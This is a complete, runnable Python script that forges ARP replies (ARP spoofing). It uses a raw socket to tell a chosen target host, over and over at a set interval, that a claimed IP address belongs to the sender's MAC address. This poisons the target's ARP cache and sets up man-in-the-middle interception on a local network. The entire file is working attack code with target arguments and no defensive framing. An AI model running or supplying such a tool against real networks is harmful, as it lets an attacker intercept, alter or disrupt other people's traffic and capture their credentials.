"""A host that tells others, unasked or when asked, that an address is at its own MAC (forged ARP, RFC 826)."""

from __future__ import annotations

import argparse
import socket
import time


def main() -> None:
    """Send forged replies at an interval."""
    ask = argparse.ArgumentParser()
    ask.add_argument("--interface", required=True)
    ask.add_argument("--claims", required=True)
    ask.add_argument("--tells", required=True)
    ask.add_argument("--tells-mac", required=True)
    ask.add_argument("--every", type=float, default=0.5)
    args = ask.parse_args()
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((args.interface, 0))
    mine = sock.getsockname()[4]
    theirs = bytes.fromhex(args.tells_mac.replace(":", ""))
    reply = theirs + mine + b"\x08\x06\x00\x01\x08\x00\x06\x04\x00\x02"
    reply += mine + socket.inet_aton(args.claims) + theirs + socket.inet_aton(args.tells)
    while True:
        sock.send(reply)
        time.sleep(args.every)


if __name__ == "__main__":
    main()
